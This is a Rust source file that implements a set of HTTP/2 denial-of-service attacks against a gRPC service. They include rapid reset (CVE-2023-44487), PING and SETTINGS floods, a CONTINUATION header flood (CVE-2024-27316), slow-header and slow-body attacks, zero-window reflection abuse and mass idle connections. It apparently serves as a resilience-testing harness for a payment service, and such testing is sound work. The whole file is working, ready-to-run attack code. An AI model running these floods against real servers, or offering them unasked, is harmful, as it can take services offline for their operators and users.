//! The attacks. Each is as fast as this machine lets it be, on a few connections, and connects anew where the server
//! ends one.

use std::{
    net::SocketAddr,
    time::{Duration, Instant},
};

use futures::future::join_all;

use crate::frames::{CONTINUATION, DATA, END_HEADERS, Frame, PING, RST_STREAM, SETTINGS, Wire};
use crate::place::TOKEN;
use crate::support::SERVICE;

/// How many at once.
const ATTACKERS: usize = 4;

/// How long a write may take: a server that does not read has stopped the attack.
const WRITE_MAX: Duration = Duration::from_millis(200);

/// What an attack came to.
#[derive(Clone, Copy, Debug, Default)]
pub struct Sent {
    pub frames: usize,
    pub connections: usize,
    /// Connections that the server ended.
    pub ended: usize,
}

impl Sent {
    pub fn and(self, other: Self) -> Self {
        Self {
            frames: self.frames + other.frames,
            connections: self.connections + other.connections,
            ended: self.ended + other.ended,
        }
    }
}

pub async fn nothing(lasts: Duration) -> Sent {
    tokio::time::sleep(lasts).await;
    Sent::default()
}

/// Calls that are taken back as soon as they are made (CVE-2023-44487).
pub async fn rapid_reset(address: SocketAddr, lasts: Duration) -> Sent {
    let path = format!("/{SERVICE}/GetTransaction");
    flood(address, lasts, |stream| {
        let call = Frame::call(stream, END_HEADERS, &path, Some(TOKEN));
        vec![call, Frame::new(RST_STREAM, 0, stream, 8_u32.to_be_bytes())]
    })
    .await
}

/// Each of them is due an answer (CVE-2019-9512), which nobody reads.
pub async fn pings(address: SocketAddr, lasts: Duration) -> Sent {
    flood(address, lasts, |_| vec![Frame::new(PING, 0, 0, [1; 8])]).await
}

/// The same (CVE-2019-9515).
pub async fn settings(address: SocketAddr, lasts: Duration) -> Sent {
    // The initial window, back and forth.
    flood(address, lasts, |stream| {
        vec![Frame::new(SETTINGS, 0, 0, [0, 4, 0, 0, 0x10, u8::try_from(stream % 251).unwrap()])]
    })
    .await
}

/// Headers that never end (CVE-2024-27316).
pub async fn continuations(address: SocketAddr, lasts: Duration) -> Sent {
    flood(address, lasts, |stream| {
        if stream == 1 {
            return vec![Frame::call(1, 0, "/", None)];
        }
        // A header of its own in each, none of them indexed; and some that are empty.
        let header = [&[0, 1, b'a', 100][..], &[b'v'; 100]].concat();
        vec![Frame::new(CONTINUATION, 0, 1, header), Frame::new(CONTINUATION, 0, 1, [])]
    })
    .await
}

/// Sends what `frames` makes for one stream after the other.
async fn flood(address: SocketAddr, lasts: Duration, frames: impl Fn(u32) -> Vec<Frame>) -> Sent {
    let until = Instant::now() + lasts;
    let attackers = (0..ATTACKERS).map(|_| async {
        let mut sent = Sent::default();
        while Instant::now() < until {
            let mut wire = Wire::greeted(address).await;
            sent.connections += 1;
            let mut stream = 1;
            loop {
                let (mut bytes, mut count) = (Vec::new(), 0);
                for _ in 0..64 {
                    for frame in frames(stream) {
                        bytes.extend(frame.bytes());
                        count += 1;
                    }
                    stream += 2;
                }
                match tokio::time::timeout(WRITE_MAX, wire.write(&bytes)).await {
                    Ok(Ok(())) => sent.frames += count,
                    Ok(Err(_)) => {
                        sent.ended += 1;
                        break;
                    }
                    // Not read any more: the attack rests upon its own connection.
                    Err(_) => tokio::time::sleep_until(until.into()).await,
                }
                if Instant::now() >= until {
                    break;
                }
            }
        }
        sent
    });
    join_all(attackers).await.into_iter().fold(Sent::default(), Sent::and)
}

/// Many heads, a byte at a time.
pub async fn slow_headers(address: SocketAddr, lasts: Duration) -> Sent {
    slowly(address, lasts, 200, |wire, stream| {
        Box::pin(async move {
            let frame = match stream {
                1 => Frame::call(1, 0, "/", None),
                _ => Frame::new(CONTINUATION, 0, 1, []),
            };
            wire.send(&frame).await.is_ok()
        })
    })
    .await
}

/// Many messages, a byte at a time.
pub async fn slow_bodies(address: SocketAddr, lasts: Duration) -> Sent {
    let path = format!("/{SERVICE}/GetTransaction");
    slowly(address, lasts, 50, move |wire, step| {
        let path = path.clone();
        Box::pin(async move {
            for stream in (1..64).step_by(2) {
                let frame = match step {
                    1 => Frame::call(stream, END_HEADERS, &path, Some(TOKEN)),
                    _ => Frame::new(DATA, 0, stream, [0]),
                };
                if wire.send(&frame).await.is_err() {
                    return false;
                }
            }
            true
        })
    })
    .await
}

type Step<'a> = std::pin::Pin<Box<dyn Future<Output = bool> + Send + 'a>>;

async fn slowly(
    address: SocketAddr,
    lasts: Duration,
    connections: usize,
    step: impl for<'a> Fn(&'a mut Wire, u32) -> Step<'a>,
) -> Sent {
    let until = Instant::now() + lasts;
    let clients = (0..connections).map(|_| async {
        let mut wire = Wire::greeted(address).await;
        let mut sent = Sent { connections: 1, ..Sent::default() };
        let mut number = 1;
        while Instant::now() < until {
            if !step(&mut wire, number).await {
                sent.ended = 1;
                break;
            }
            sent.frames += 1;
            number += 2;
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        sent
    });
    join_all(clients).await.into_iter().fold(Sent::default(), Sent::and)
}

/// Calls of which the answers may not be sent: the window is closed.
pub async fn deaf(address: SocketAddr, lasts: Duration) -> Sent {
    let closed = Frame::new(SETTINGS, 0, 0, [0, 4, 0, 0, 0, 0]);
    // Reflection answers with the whole contract, again and again.
    let path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
    let ask = [&[0, 0, 0, 0, 39, 34, 37][..], b"payops.v1.PaymentOperationsService/No"].concat();
    let until = Instant::now() + lasts;
    let clients = (0..ATTACKERS * 8).map(|_| async {
        let mut wire = Wire::greeted(address).await;
        let mut sent = Sent { connections: 1, ..Sent::default() };
        let mut is_open = wire.send(&closed).await.is_ok();
        for stream in (1..400).step_by(2) {
            let mut bytes = Frame::call(stream, END_HEADERS, path, Some(TOKEN)).bytes();
            for _ in 0..20 {
                bytes.extend(Frame::new(DATA, 0, stream, ask.clone()).bytes());
            }
            is_open =
                is_open && matches!(tokio::time::timeout(WRITE_MAX, wire.write(&bytes)).await, Ok(Ok(())));
            sent.frames += 21 * usize::from(is_open);
        }
        sent.ended = usize::from(!is_open);
        tokio::time::sleep_until(until.into()).await;
        sent
    });
    join_all(clients).await.into_iter().fold(Sent::default(), Sent::and)
}

/// Connections that greet and then do nothing, all of them open at this end.
pub async fn idle(address: SocketAddr, many: usize) -> Sent {
    let mut wires = Vec::with_capacity(many);
    while wires.len() < many {
        let batch = (0..500.min(many - wires.len())).map(|_| Wire::greeted(address));
        wires.extend(join_all(batch).await);
    }
    let mut ended = 0;
    for wire in &mut wires {
        // Every one gets an answer or an end; those that were ended have said goodbye.
        ended += usize::from(wire.is_ended());
    }
    Sent { frames: 2 * many, connections: many, ended }
}
